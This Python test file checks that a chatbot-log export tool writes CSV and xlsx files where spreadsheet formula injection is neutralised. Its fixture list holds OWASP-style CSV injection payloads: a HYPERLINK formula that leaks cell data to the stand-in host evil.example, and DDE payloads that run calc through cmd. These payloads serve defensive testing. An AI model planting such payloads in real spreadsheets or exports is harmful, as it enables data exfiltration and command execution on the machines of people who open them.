"""``botwatch export``: CSV and xlsx of conversations full of formula payloads open as text."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from sdk_journal import sdk_journal

import botwatch
from botwatch.audit.export import FIELDS
from botwatch.audit.writers import DELIMITERS, FORMULA_START, CsvWriter, spreadsheet_text, xlsx_text
from botwatch.cli import main

SECRET = "export-test-secret-0123456789"
# OWASP's CSV injection examples and their relatives: every one starts a formula in Excel or LibreOffice.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите сюда")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    "  =1+2",
    "=SUM(A1:A9)",
]
PLAIN = [
    "Хочу записаться на стрижку, завтра; после 18:00",
    'Цена "под ключ"?',
    "две\nстроки",
    "обычный текст",
]


@pytest.fixture(scope="module")
def journal(tmp_path_factory) -> Path:
    path = tmp_path_factory.mktemp("export") / "journal.sqlite"
    with sdk_journal(path, "formula-bot", SECRET):
        for n, text in enumerate(FORMULAS + PLAIN):
            with botwatch.conversation(f"safe-{n}", channel="telegram", client_phone="+79123459877") as conv:
                with conv.turn(text) as turn:
                    turn.intent("booking", confidence=0.875)
                    turn.reply(FORMULAS[n % len(FORMULAS)])
    return path


def export(journal: Path, out: Path, *args: str) -> Path:
    assert main(["export", "--since", "1d", "--out", str(out), "--quiet", *args, "--journal", str(journal)]) == 0
    return out


@pytest.fixture(scope="module")
def events(journal, tmp_path_factory) -> list[dict[str, object]]:
    """The rows as JSON lines carry them: the text exactly as recorded."""
    out = export(journal, tmp_path_factory.mktemp("jsonl") / "events.jsonl", "--format", "jsonl")
    rows = [json.loads(line) for line in out.read_text(encoding="utf-8").splitlines()]
    texts = {r.get("text") for r in rows}
    assert {f for f in FORMULAS if f.strip() in {str(t).strip() for t in texts}}, "payloads reached the journal"
    return rows


def flat(event: dict[str, object]) -> list[object]:
    data = {**event, "client_phone": (event.get("client") or {}).get("phone")}  # type: ignore[union-attr]
    return [data.get(name) for name in FIELDS]


def read_csv(path: Path, delimiter: str) -> list[list[str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline=""), delimiter=delimiter))


def test_csv_cells_never_start_a_formula_and_round_trip(journal, events, tmp_path):
    table = read_csv(export(journal, tmp_path / "events.csv"), ";")  # ; by default: Russian-locale Excel
    assert tuple(table[0]) == FIELDS and len(table) == len(events) + 1
    for cells, event in zip(table[1:], events, strict=True):
        for cell, name, value in zip(cells, FIELDS, flat(event), strict=True):
            assert not cell.lstrip(" ").startswith(FORMULA_START), (name, cell)
            if isinstance(value, str):
                assert cell == spreadsheet_text(value), name  # the text itself, after one "'"
    cells = [c for row in table[1:] for c in row]
    for payload in ("=SUM(A1:A9)", "-1+1", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"):
        assert "'" + payload in cells
    assert "две\nстроки" in cells and "Хочу записаться на стрижку, завтра; после 18:00" in cells
    phones = {row[FIELDS.index("client_phone")] for row in table[1:]}
    assert phones and all(p.startswith("'+7") and "***" in p for p in phones)  # masked phones start with +
    assert {row[FIELDS.index("confidence")] for row in table[1:] if row[FIELDS.index("confidence")]} == {"0,875"}


@pytest.mark.parametrize(("option", "delimiter", "decimal"), [("comma", ",", "0.875"), ("tab", "\t", "0.875")])
def test_csv_other_delimiters(journal, events, tmp_path, option, delimiter, decimal):
    table = read_csv(export(journal, tmp_path / "e.csv", "--delimiter", option), delimiter)
    assert tuple(table[0]) == FIELDS and len(table) == len(events) + 1
    assert all(len(row) == len(FIELDS) for row in table)
    assert decimal in {row[FIELDS.index("confidence")] for row in table[1:]}
    assert not any(c.lstrip(" ").startswith(FORMULA_START) for row in table for c in row)


def test_xlsx_round_trips_as_text_cells(journal, events, tmp_path):
    path = export(journal, tmp_path / "events.xlsx", "--format", "xlsx")
    sheet_xml = zipfile.ZipFile(path).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml  # not one formula in the file
    sheet = openpyxl.load_workbook(path, read_only=True)["events"]
    rows = list(sheet.iter_rows())
    assert tuple(c.value for c in rows[0]) == FIELDS and len(rows) == len(events) + 1
    for cells, event in zip(rows[1:], events, strict=True):
        for cell, name, value in zip(cells, FIELDS, flat(event), strict=True):
            if isinstance(value, str):
                assert cell.data_type == "s" and cell.value == xlsx_text(value), name  # the text, typed as text
            elif value is not None:
                assert cell.value == value and cell.data_type == "n", name
    texts = {c.value for row in rows[1:] for c in row}
    assert "=SUM(A1:A9)" in texts and '=HYPERLINK("http://evil.example/?leak="&A1,"Нажмите сюда")' in texts


def test_jsonl_is_unchanged_by_the_spreadsheet_rules(events):
    texts = [e.get("text") for e in events]
    assert "=SUM(A1:A9)" in texts and "-1+1" in texts  # no "'" in JSON lines
    phones = {e["client"]["phone"] for e in events if "client" in e}  # type: ignore[index]
    assert phones and all(p.startswith("+7") for p in phones)


def test_xlsx_without_openpyxl_names_the_extra(journal, tmp_path):
    out = tmp_path / "events.xlsx"
    code = (
        "import sys; sys.modules['openpyxl'] = None  # as if it were not installed\n"
        "from botwatch.cli import main; sys.exit(main(sys.argv[1:]))"
    )
    args = ["export", "--format", "xlsx", "--since", "1d", "--out", str(out), "--journal", str(journal)]
    done = subprocess.run(
        [sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=120, env=dict(os.environ)
    )
    assert done.returncode == 2, done.stderr
    assert "pip install 'botwatch[xlsx]'" in done.stderr and "Traceback" not in done.stderr
    assert not out.exists() and not list(tmp_path.glob("*.part"))


def test_delimiter_with_jsonl_is_a_usage_error(journal, tmp_path, capsys):
    assert main(["export", "--format", "jsonl", "--delimiter", "comma", "--journal", str(journal)]) == 2
    assert "--delimiter applies to --format csv" in capsys.readouterr().err


def test_xlsx_text_keeps_what_xml_can_carry():
    assert xlsx_text("a\r\nb\rc\nd") == "a\nb\nc\nd"
    assert xlsx_text("\x1b[2J\x00ok\tпривет") == "\ufffd[2J\ufffdok\tпривет"


def test_spreadsheet_text_rule():
    risky = ("=1", "+7 *** ***-98-77", "-", "@x", "\tx", "\rx", " =1", "\n=1+2", "\u00a0=1", " \u3000@x", " \tx")
    assert [spreadsheet_text(t) for t in risky] == [
        "'=1",
        "'+7 *** ***-98-77",
        "'-",
        "'@x",
        "'\tx",
        "'\rx",
        "' =1",
        "'\n=1+2",
        "'\u00a0=1",
        "' \u3000@x",
        "' \tx",
    ]
    assert [spreadsheet_text(t) for t in ("", "abc", "1-2", "a=b", "№ 123456", "'=1", " ", "\nабв")] == [
        "",
        "abc",
        "1-2",
        "a=b",
        "№ 123456",
        "'=1",
        " ",
        "\nабв",
    ]


@given(st.text())
def test_spreadsheet_text_only_ever_adds_one_quote(text):
    shown = spreadsheet_text(text)
    assert not shown.lstrip().startswith(FORMULA_START) and not shown.startswith(FORMULA_START)
    assert shown in (text, "'" + text)


@pytest.mark.parametrize("option", sorted(DELIMITERS))
@given(texts=st.lists(st.text(), min_size=1, max_size=5), confidence=st.floats(0, 1))
def test_any_text_round_trips_through_the_csv_dialect(option, texts, confidence):
    out = io.BytesIO()
    writer = CsvWriter(out, delimiter=option)
    for n, text in enumerate(texts):
        writer.write({"timestamp": n, "session_id": text, "text": text, "confidence": confidence})
    writer.close()
    raw = out.getvalue().decode("utf-8")
    assert raw.startswith("\ufeff")
    table = list(csv.reader(io.StringIO(raw[1:], newline=""), delimiter=DELIMITERS[option]))
    assert tuple(table[0]) == FIELDS and len(table) == len(texts) + 1
    for row, text in zip(table[1:], texts, strict=True):
        assert row[FIELDS.index("text")] == row[FIELDS.index("session_id")] == spreadsheet_text(text)
        number = row[FIELDS.index("confidence")]
        assert float(number.replace(",", ".") if option == "semicolon" else number) == confidence
